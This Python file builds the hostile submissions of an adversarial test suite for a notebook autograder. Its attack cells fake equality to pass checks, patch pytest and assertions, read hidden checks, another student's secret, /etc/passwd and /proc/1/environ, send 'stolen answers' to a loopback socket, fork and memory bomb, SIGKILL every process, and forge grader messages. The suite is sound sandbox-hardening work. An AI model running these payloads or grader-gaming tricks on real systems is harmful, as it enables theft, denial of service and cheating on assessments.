"""The hostile submissions of the adversarial suite, and the honest ones graded after them.

Each hostile submission is an assignment's notebook (the instructor's solution, or the release filled in with
`samples/variants.py`) with a hostile cell added, a solution replaced or its nbgrader metadata tampered with.
Attacks aim at the real things of the test run (`Targets`): the course folder being graded, a secret in another
student's folder, a loopback server the test listens on, the grader's own process id.
"""
from __future__ import annotations

import copy
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

import make_class
from autograder.course import notebook as nb
from builders import cell_index, inserted, replaced, solution
from course_files import ASSIGNMENTS

A1, A2, A3, A4 = "01-gradient-descent", "02-slopes-and-updates", "03-backpropagation", "04-linear-regression"
CONTROL = "zz_control"  # sorts last: the batch grades it after every hostile submission


@dataclass(frozen=True)
class Targets:
    """What hostile code aims at in this test run."""

    course_root: Path       # the course folder being graded (source/, course_config.py, gradebook.db, submitted/)
    hidden_checks: Path     # the hidden checks of 01, where the grader loads them from
    victim_answers: Path    # a file in another student's submission folder, holding a secret
    source_secret: Path     # a file in source/, holding a secret
    outside: Path           # a folder of this machine's /tmp that no sandbox may see
    port: int               # a TCP server of the test on 127.0.0.1
    abstract_socket: str    # an abstract unix socket the test listens on
    grader_pid: int         # this test process: the grader

    @property
    def gradebook(self) -> Path:
        return self.course_root / "gradebook.db"

    @property
    def source_notebook(self) -> Path:
        return self.course_root / "source" / A1 / "gradient_descent.ipynb"


@dataclass(frozen=True)
class Hostile:
    student: str            # also the attack's name
    assignment: str
    build: Callable[[object, Targets], nbformat.NotebookNode]   # (course, targets) -> the submitted notebook


def code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def with_variants(course, assignment, *hostile_names, **choices):
    """The release, every exercise in the reference style (or as `choices` say), and HOSTILE cells of variants.py
    where make_class puts them."""
    chosen = {exercise: "correct" for exercise in make_class.course_variants(course.root, assignment)}
    chosen.update(choices)
    extra = [(make_class.hostile_after(name, assignment), make_class.hostile_cell(name, assignment))
             for name in hostile_names]
    return make_class.build_notebook(course.root, assignment, chosen, extra)


def inserted_many(notebook, after_grade_id, *sources):
    """The notebook with the new code cells `sources`, in this order, right after the cell `after_grade_id`."""
    for source in reversed(sources):
        notebook = inserted(notebook, after_grade_id, source)
    return notebook


def retagged(notebook, which, **changes):
    """The notebook with the cell whose grade id is `which` changed: `cell_type`, `source`, or nbgrader metadata."""
    changed = nbformat.from_dict(copy.deepcopy(notebook))
    cell = changed.cells[cell_index(changed, which)]
    for key, value in changes.items():
        if key == "cell_type":
            cell.cell_type = value
            if value != "code":
                cell.pop("outputs", None)
                cell.pop("execution_count", None)
        elif key == "source":
            cell.source = value
        else:
            cell.metadata.nbgrader[key] = value
    return changed


# ---------------------------------------------------------------------------------------------------------------
# Fake equality and fake numbers
# ---------------------------------------------------------------------------------------------------------------

FAKE_FLOAT = code('''
    class Anything(float):
        def __eq__(self, other):
            return True
        __ne__ = lambda self, other: False
        __hash__ = float.__hash__

    def df(x):
        return Anything(0)
''')

# An object that becomes the reference value when NumPy or float() looks at it, if it can find the reference.
FAKE_ARRAY_INTERFACE = code('''
    import numpy as np
    try:
        from autograder.hidden.test_01_gradient_descent import reference_df as _reference
        print("reference: found")
    except Exception as error:
        _reference = None
        print("reference: unavailable", type(error).__name__)

    class Sneaky:
        def __init__(self, x):
            self.x = x
        def _value(self):
            return _reference(self.x) if _reference else 0.0
        def __array__(self, dtype=None, copy=None):
            return np.asarray(self._value(), dtype=dtype)
        def __float__(self):
            return float(self._value())
        def __eq__(self, other):
            return True

    def df(x):
        return Sneaky(x)
''')

FAKE_NUMPY_SCALAR = code('''
    import numpy as np

    class Agreeable(np.float64):
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False

    def df(x):
        return Agreeable(0.0)
''')

# ---------------------------------------------------------------------------------------------------------------
# Monkeypatching NumPy, builtins, the visible check helper, pytest and assertions
# ---------------------------------------------------------------------------------------------------------------

PATCH_CHECK_HELPER = code('''
    # Every check passes now.
    def check(description, compute, expected, hint="", tol=1e-6):
        print("\\N{CHECK MARK}", description, "=", repr(expected) + ", as expected.")

    class CheckFailed(Exception):
        pass
''')

PATCH_PYTEST_AND_ASSERT = code('''
    import builtins
    import sys
    import types
    fake = types.ModuleType("pytest")
    fake.fail = fake.skip = lambda *args, **kwargs: None
    fake.approx = lambda expected, *args, **kwargs: types.SimpleNamespace(__eq__=lambda self, other: True)
    sys.modules["pytest"] = fake
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    builtins.__dict__["assert_hidden_checks_pass"] = lambda *args, **kwargs: None
    for name in ["autograder", "autograder.checking.checks", "autograder.checking.expect"]:
        sys.modules[name] = types.ModuleType(name)
    print("patched pytest, AssertionError and the hidden-check entry point")
''')

# ---------------------------------------------------------------------------------------------------------------
# Reading what a student must not read
# ---------------------------------------------------------------------------------------------------------------


def read_hidden_checks(targets: Targets) -> str:
    """df that computes its result from the hidden checks' reference, if it can read them."""
    return code(f'''
        import glob, os
        stolen = None
        for path in [{str(targets.hidden_checks)!r}, *glob.glob("/work/*/hidden/*.py"),
                     *glob.glob("/work/*/autograder/hidden/*.py"),
                     *glob.glob("/usr/local/lib/python3*/site-packages/autograder/hidden/*.py")]:
            try:
                stolen = open(path).read()
                print("read", path)
                break
            except OSError as error:
                print("cannot read", path, type(error).__name__)
        try:
            import autograder.hidden
            print("imported", autograder.hidden.__file__)
        except Exception as error:
            print("import autograder.hidden:", type(error).__name__)

        def df(x):
            if stolen is None:
                return 0.0
            namespace = {{}}
            exec(stolen.split("@pytest.mark")[0].replace("import pytest", ""), namespace)
            return namespace["reference_df"](x)
    ''')


def read_other_student(targets: Targets) -> str:
    """max_stable_learning_rate copied from another student's folder, if it can be read."""
    return code(f'''
        max_stable_learning_rate = 0.5  # my own (wrong) guess
        try:
            exec(open({str(targets.victim_answers)!r}).read())
            print("copied:", open({str(targets.victim_answers)!r}).read())
        except OSError as error:
            print("cannot read the other student's answers:", type(error).__name__)
        import os
        for folder in [{str(targets.victim_answers.parent.parent.parent)!r}, "../..", "../../.."]:
            try:
                print(folder, os.listdir(folder))
            except OSError as error:
                print(folder, type(error).__name__)
    ''')


def read_source(targets: Targets) -> str:
    """df taken from the instructor's source notebook (and a secret from source/), if they can be read."""
    return code(f'''
        import json
        try:
            print(open({str(targets.source_secret)!r}).read())
        except OSError as error:
            print("no secret:", type(error).__name__)
        try:
            cells = json.load(open({str(targets.source_notebook)!r}))["cells"]
            exec(next("".join(c["source"]) for c in cells if "def df" in "".join(c["source"])))
            print("took df from the source notebook")
        except OSError as error:
            print("no source notebook:", type(error).__name__)
            def df(x):
                return 0.0
    ''')


def read_course_files(targets: Targets) -> str:
    return code(f'''
        for path in [{str(targets.course_root / "course_config.py")!r}, {str(targets.gradebook)!r},
                     {str(targets.course_root / "nbgrader_config.py")!r}, "/proc/1/environ", "/etc/passwd"]:
            try:
                print(path, "->", open(path, "rb").read()[:5000])
            except OSError as error:
                print(path, "->", type(error).__name__)
    ''')


# ---------------------------------------------------------------------------------------------------------------
# Writing outside the sandbox
# ---------------------------------------------------------------------------------------------------------------


def write_outside(targets: Targets) -> str:
    writes = [targets.course_root / "escaped.txt", targets.outside / "escaped.txt",
              targets.course_root / "submitted" / CONTROL / A1 / "gradient_descent.ipynb",
              targets.source_notebook, targets.gradebook, Path("/tmp/escaped-from-adversarial-suite.txt")]
    return code(f'''
        import os
        for path in {[str(path) for path in writes]!r}:
            try:
                with open(path, "a") as handle:
                    handle.write("written by a student notebook\\n")
                print("WROTE", path)
            except OSError as error:
                print("could not write", path, type(error).__name__)
        try:  # opened for appending only: even if it worked, the file would stay as it is
            open({str(targets.hidden_checks)!r}, "a").close()
            print("OPENED THE HIDDEN CHECKS FOR WRITING")
        except OSError as error:
            print("could not open the hidden checks for writing", type(error).__name__)
    ''')


# ---------------------------------------------------------------------------------------------------------------
# The network
# ---------------------------------------------------------------------------------------------------------------


def network(targets: Targets) -> str:
    return code(f'''
        import socket
        for family, address in [(socket.AF_INET, ("127.0.0.1", {targets.port})), (socket.AF_INET, ("10.0.2.2", 80)),
                                (socket.AF_UNIX, "\\0" + {targets.abstract_socket!r})]:
            probe = socket.socket(family, socket.SOCK_STREAM)
            probe.settimeout(1)
            try:
                probe.connect(address)
                probe.sendall(b"stolen answers")
                print("CONNECTED", address)
            except OSError as error:
                print("no connection to", address, type(error).__name__)
            finally:
                probe.close()
        try:
            socket.getaddrinfo("pypi.org", 443)
            print("RESOLVED")
        except OSError as error:
            print("no name resolution", type(error).__name__)
    ''')


def network_in_graded_function(targets: Targets) -> str:
    """gradient_descent_update phones home on every call, then returns the right value."""
    return code(f'''
        import socket

        def gradient_descent_update(x, gradx, learning_rate):
            try:
                socket.create_connection(("127.0.0.1", {targets.port}), timeout=0.2).sendall(repr(x).encode())
            except OSError:
                pass
            return x - learning_rate * gradx
    ''')


# ---------------------------------------------------------------------------------------------------------------
# Processes, memory, time, output
# ---------------------------------------------------------------------------------------------------------------

SHOW_UID = code('''
    import os
    print("uid", os.getuid())
''')

SWALLOWED_LOOP = code('''
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
''')

CALLBACK_FLOOD = code('''
    # Calls the grader's own gradient function for ever, ignoring every timeout.
    def gradient_descent(grad, x0, learning_rate, max_iters):
        while True:
            try:
                while True:
                    grad(1.0)
            except BaseException:
                pass
''')

HUGE_OUTPUT = code('''
    import os, sys
    for _ in range(40):
        print("x" * 1_000_000)
        sys.stdout.write("y" * 1_000_000)
        sys.stderr.write("z" * 500_000)
        os.write(1, b"w" * 1_000_000)
    print("flooded")
''')

HUGE_RESULT = "def df(x):\n    return [\"x\" * 100_000] * 100  # 10 MB\n"

MEMORY_BOMB_IN_FUNCTION = code('''
    def numerical_gradient(loss, weights, h=1e-5):
        hoard = []
        while True:
            hoard.append(bytearray(64 * 1024 * 1024))
''')

FORK_IN_FUNCTION = code('''
    import os, time

    def fit(x, y, learning_rate, epochs, weight=0.0, bias=0.0):
        for _ in range(100):
            try:
                if os.fork() == 0:
                    os.setsid()
                    time.sleep(600)
                    os._exit(0)
            except OSError:
                break
        history = []
        for _ in range(epochs):
            d_weight, d_bias = sse_gradient(x, y, weight, bias)
            weight, bias = weight - learning_rate * d_weight, bias - learning_rate * d_bias
            history.append(sse(x, y, weight, bias))
        return weight, bias, np.array(history, dtype=float)
''')

# ---------------------------------------------------------------------------------------------------------------
# Exiting, and killing the grader
# ---------------------------------------------------------------------------------------------------------------

SYS_EXIT = "import sys\nprint('leaving early')\nsys.exit(0)\n"
RAISE_SYSTEM_EXIT = "raise SystemExit('the grader should stop here')\n"
OS_EXIT = "import os\nos._exit(1)\n"
DF_SYSTEM_EXIT = "def df(x):\n    raise SystemExit(0)\n"
DF_OS_EXIT = "import os\n\ndef df(x):\n    os._exit(0)\n"
FIT_SYS_EXIT = code('''
    import sys

    def fit(x, y, learning_rate, epochs, weight=0.0, bias=0.0):
        sys.exit("no fitting today")
''')


def kill_others(targets: Targets) -> str:
    """Signals for every process in sight: the zygote, pid 1, the grader's own pid number, everything in /proc."""
    return code(f'''
        import os, signal
        targets = {{"parent": os.getppid(), "pid 1": 1, "grader": {targets.grader_pid}}}
        targets.update({{f"/proc/{{pid}}": int(pid) for pid in os.listdir("/proc")
                        if pid.isdigit() and int(pid) != os.getpid()}})
        for name, pid in targets.items():
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    print("signalled", name, pid, sig.name)
                except OSError as error:
                    print("refused", name, pid, sig.name, type(error).__name__)
    ''')


KILL_OWN_GROUP = code('''
    import os, signal
    os.killpg(0, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
''')

# ---------------------------------------------------------------------------------------------------------------
# Forging the sandbox's messages: the student's code shares the process (and socket) that talks to the grader
# ---------------------------------------------------------------------------------------------------------------

GRADER_SOCKET = code('''
    import json, sys

    def _grader_socket():
        frame = sys._getframe()
        while frame is not None:
            if frame.f_code.co_name in ("run_child", "serve", "call") and "sock" in frame.f_locals:
                return frame.f_locals["sock"]
            frame = frame.f_back

    def _forge(sock, message):
        data = json.dumps(message).encode()
        sock.sendall(len(data).to_bytes(4, "big") + data)
''')

FORGE_SANDBOX_ERROR = GRADER_SOCKET + code('''
    _forge(_grader_socket(), {"op": "sandbox_error", "text": "forged: stop the whole batch"})
''')

FORGE_PROTOCOL = GRADER_SOCKET + code('''
    sock = _grader_socket()
    _forge(sock, {"op": "cell_done", "index": 14, "error": "not a dict", "output": "o" * 5_000_000})
    _forge(sock, {"op": "checkpoint", "index": 9999})
    _forge(sock, {"op": "checkpoint", "index": [1]})
''')

FORGE_KEEPALIVE = GRADER_SOCKET + code('''
    import threading, time
    sock = _grader_socket()

    def heartbeat():  # "a cell has started" at once and every half second, so the grader never times out
        while True:  # (the first at once: a cell's processor budget may end before half a second has passed)
            _forge(sock, {"op": "cell_started", "index": 3})
            time.sleep(0.5)

    threading.Thread(target=heartbeat, daemon=True).start()
''') + SWALLOWED_LOOP

FORGE_OVERSIZED = GRADER_SOCKET + code('''
    # A message of 126 MB of "{}," (a JSON list of empty dicts): parsing it took 3.3 GB of the grader's memory.
    sock, piece = _grader_socket(), b"{}," * (2 * 1024 * 1024)
    sock.sendall((21 * len(piece) + 2).to_bytes(4, "big") + b"[")
    for _ in range(21):
        sock.sendall(piece)
    sock.sendall(b"{}]")
''')

# ---------------------------------------------------------------------------------------------------------------
# Tampered nbgrader metadata, deleted and duplicated cells
# ---------------------------------------------------------------------------------------------------------------


def raised_points(course, targets):
    notebook = solution(course, A1)
    for cell in notebook.cells:
        if "points" in nb.nbgrader_meta(cell):
            cell.metadata.nbgrader.points = 100
    bonus = nbformat.v4.new_code_cell("print('bonus')")
    bonus.metadata.nbgrader = {"grade": True, "solution": False, "locked": True, "points": 50,
                               "grade_id": "bonus", "schema_version": 3}
    notebook.cells.append(bonus)
    return notebook


def swapped_grade_ids(course, targets):
    notebook = retagged(solution(course, A1), "check_df", grade_id="swapping")
    notebook = retagged(notebook, "check_gradient_descent", grade_id="check_df")
    return retagged(notebook, "swapping", grade_id="check_gradient_descent")


def solution_as_markdown(course, targets):
    return retagged(solution(course, A1), "df", cell_type="markdown")


def edited_locked_cells(course, targets):
    """The check helper, the given loss and every check cell rewritten to pass; df wrong."""
    notebook = replaced(solution(course, A1), "df", "def df(x):\n    return x - 3\n")
    notebook = retagged(notebook, "check_helpers", source=PATCH_CHECK_HELPER)
    notebook = retagged(notebook, "given_f", source="def f(x):\n    return 0\n")
    for cell in notebook.cells:
        if nb.is_autograder_test(cell):
            cell.source = "print('all good')\n"
    return notebook


def tampered_checksums(course, targets):
    """From the release: df wrong, its check cell emptied and unlocked, every checksum made up."""
    notebook = with_variants(course, A1, df="mistake_sign_flipped")
    for cell in notebook.cells:
        meta = nb.nbgrader_meta(cell)
        if "checksum" in meta:
            meta["checksum"] = "0" * 32
    return retagged(notebook, "check_df", source="pass\n", locked=False, solution=True, grade=False)


def deleted_cells(course, targets):
    """No markdown, no worked example, and neither df nor its check cell."""
    notebook = solution(course, A1)
    notebook.cells = [cell for cell in notebook.cells if cell.cell_type == "code" and not (
        nb.grade_id(cell) is None or nb.grade_id(cell) in ("df", "check_df"))]
    return notebook


def duplicated_cells(course, targets):
    """A copy of check_df above df (it fails there), and a wrong df above the right one."""
    notebook = solution(course, A1)
    check = copy.deepcopy(notebook.cells[cell_index(notebook, "check_df")])
    wrong = copy.deepcopy(notebook.cells[cell_index(notebook, "df")])
    wrong.source = "def df(x):\n    return 0\n"
    check.id, wrong.id = "duplicate-of-check-df", "duplicate-of-df"
    position = cell_index(notebook, "df")
    notebook.cells[position:position] = [check, wrong]
    return notebook


def check_cell_as_markdown(course, targets):
    return retagged(solution(course, A1), "check_gradient_descent_update", cell_type="markdown")


# ---------------------------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------------------------


def _after(assignment, grade_id, *sources):
    return lambda course, targets: inserted_many(solution(course, assignment), grade_id,
                                                 *(source(targets) if callable(source) else source
                                                   for source in sources))


def _replacing(assignment, grade_id, source):
    return lambda course, targets: replaced(solution(course, assignment), grade_id,
                                            source(targets) if callable(source) else source)


def _variants(assignment, *hostile_names, **choices):
    return lambda course, targets: with_variants(course, assignment, *hostile_names, **choices)


HOSTILE = [
    # fake equality and fake numbers
    Hostile("fake_float_eq", A1, _replacing(A1, "df", FAKE_FLOAT)),
    Hostile("fake_numpy_scalar", A1, _replacing(A1, "df", FAKE_NUMPY_SCALAR)),
    Hostile("fake_array_interface", A1, _replacing(A1, "df", FAKE_ARRAY_INTERFACE)),
    Hostile("fake_equality_01", A1, _variants(A1, "fake_equality")),
    Hostile("fake_equality_02", A2, _variants(A2, "fake_equality")),
    Hostile("fake_equality_03", A3, _variants(A3, "fake_equality")),
    Hostile("fake_equality_04", A4, _variants(A4, "fake_equality")),
    Hostile("hardcoded_worked_values_04", A4, _variants(A4, "hardcoded_worked_values")),
    # monkeypatching NumPy, builtins, the check helper, pytest
    Hostile("monkeypatch_numpy_builtins_01", A1, _variants(A1, "monkeypatch_numpy", df="mistake_dropped_factor_2")),
    Hostile("monkeypatch_numpy_builtins_02", A2,
            _variants(A2, "monkeypatch_numpy", update_weights="mistake_added_gradient")),
    Hostile("monkeypatch_check_helper", A1, lambda course, targets: inserted(
        replaced(solution(course, A1), "df", "def df(x):\n    return 2 * (3 - x)\n"), "check_helpers",
        PATCH_CHECK_HELPER)),
    Hostile("monkeypatch_pytest_assert", A1, lambda course, targets: inserted(
        replaced(solution(course, A1), "max_stable_learning_rate", "max_stable_learning_rate = 0.5\n"),
        "imports", PATCH_PYTEST_AND_ASSERT)),
    # reading hidden checks, source notebooks, other students' files, course files
    Hostile("read_hidden_checks", A1, _replacing(A1, "df", read_hidden_checks)),
    Hostile("read_hidden_checks_variants", A1, _variants(A1, "read_hidden_checks")),
    Hostile("read_other_student", A1, _replacing(A1, "max_stable_learning_rate", read_other_student)),
    Hostile("read_source", A1, _replacing(A1, "df", read_source)),
    Hostile("read_course_files", A1, _after(A1, "check_gradient_descent", read_course_files)),
    # writing outside the sandbox, the network
    Hostile("write_outside", A1, _after(A1, "check_gradient_descent", write_outside)),
    Hostile("network", A1, _after(A1, "check_df", network)),
    Hostile("network_in_graded_function", A1, _replacing(A1, "gradient_descent_update", network_in_graded_function)),
    # process and memory bombs
    Hostile("fork_bomb", A1, _variants(A1, "process_bomb")),
    Hostile("fork_bomb_shown", A1, _after(A1, "check_df", SHOW_UID, make_class.HOSTILE["process_bomb"])),
    Hostile("memory_bomb", A1, _variants(A1, "memory_bomb")),
    Hostile("memory_bomb_in_function", A3, _replacing(A3, "numerical_gradient", MEMORY_BOMB_IN_FUNCTION)),
    Hostile("fork_in_graded_function", A4, lambda course, targets: inserted(
        replaced(solution(course, A4), "fit", FORK_IN_FUNCTION), "imports", SHOW_UID)),
    # endless loops: in a cell, in a cell that swallows the timeout, in graded functions
    Hostile("endless_loop_cell", A1, _variants(A1, "infinite_loop_cell")),
    Hostile("endless_loop_swallowing_timeout", A1, _after(A1, "gradient_descent", SWALLOWED_LOOP)),
    Hostile("endless_loop_in_function_01", A1, _variants(A1, "infinite_loop_in_function")),
    Hostile("endless_loop_in_function_02", A2, _variants(A2, "infinite_loop_in_function")),
    Hostile("endless_loop_in_helper_03", A3, _variants(A3, "infinite_loop_in_helper")),
    Hostile("endless_callbacks", A1, _after(A1, "gradient_descent", CALLBACK_FLOOD)),
    # huge output
    Hostile("huge_output", A1, _after(A1, "check_df", HUGE_OUTPUT)),
    Hostile("huge_output_variants", A2, _variants(A2, "huge_output")),
    Hostile("huge_result", A1, _replacing(A1, "df", HUGE_RESULT)),
    # exiting, killing the grader
    Hostile("sys_exit", A1, _after(A1, "check_df", SYS_EXIT)),
    Hostile("raise_system_exit", A1, _after(A1, "check_gradient_descent_update", RAISE_SYSTEM_EXIT)),
    Hostile("os_exit", A1, _variants(A1, "crash_exit")),
    Hostile("system_exit_in_graded_function", A1, _replacing(A1, "df", DF_SYSTEM_EXIT)),
    Hostile("os_exit_in_graded_function", A1, _replacing(A1, "df", DF_OS_EXIT)),
    Hostile("sys_exit_in_graded_function_04", A4, _replacing(A4, "fit", FIT_SYS_EXIT)),
    Hostile("kill_the_grader", A1, _after(A1, "check_df", kill_others, KILL_OWN_GROUP)),
    Hostile("kill_parent", A3, _variants(A3, "kill_parent")),
    # forged messages to the grader
    Hostile("forged_sandbox_error", A1, _after(A1, "check_df", FORGE_SANDBOX_ERROR)),
    Hostile("forged_protocol", A1, _after(A1, "check_df", FORGE_PROTOCOL)),
    Hostile("forged_keepalive", A1, _after(A1, "check_df", FORGE_KEEPALIVE)),
    Hostile("forged_oversized_message", A1, _after(A1, "check_df", FORGE_OVERSIZED)),
    # tampered metadata, deleted and duplicated cells
    Hostile("raised_points", A1, raised_points),
    Hostile("swapped_grade_ids", A1, swapped_grade_ids),
    Hostile("solution_cell_as_markdown", A1, solution_as_markdown),
    Hostile("check_cell_as_markdown", A1, check_cell_as_markdown),
    Hostile("edited_locked_cells", A1, edited_locked_cells),
    Hostile("tampered_checksums", A1, tampered_checksums),
    Hostile("deleted_cells", A1, deleted_cells),
    Hostile("duplicated_cells", A1, duplicated_cells),
]
# An assignment added later (`autograder new`) gets the attacks that need no knowledge of its exercises.
HOSTILE += [Hostile(f"{attack}_{assignment}", assignment, _variants(assignment, cell))
            for assignment in ASSIGNMENTS if assignment not in (A1, A2, A3, A4)
            for attack, cell in (("os_exit", "crash_exit"), ("endless_loop_cell", "infinite_loop_cell"))]

BY_STUDENT = {hostile.student: hostile for hostile in HOSTILE}
assert len(BY_STUDENT) == len(HOSTILE), "every hostile submission needs a student id of its own"


def victim_answers_text(secret: str) -> str:
    """What the other student's folder holds: the right answer, and a secret that must never come out."""
    return f"max_stable_learning_rate = 1.0  # {secret}\n"
